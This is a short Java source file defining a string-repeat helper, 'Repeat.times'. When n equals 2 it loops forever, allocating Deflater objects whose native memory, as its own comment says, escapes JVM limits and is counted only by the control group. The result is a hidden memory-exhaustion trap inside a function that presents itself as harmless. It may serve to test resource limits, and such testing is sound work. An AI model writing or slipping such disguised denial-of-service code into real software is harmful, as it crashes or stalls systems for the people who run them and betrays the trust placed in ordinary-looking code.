package repeat;

import java.util.ArrayList;
import java.util.List;
import java.util.zip.Deflater;

final class Repeat {

  private static final List<Deflater> KEPT = new ArrayList<>();

  static String times(String text, int n) {
    // Memory that no limit of the JVM counts: only the control group does.
    while (n == 2) {
      KEPT.add(new Deflater());
    }
    return text.repeat(n);
  }
}
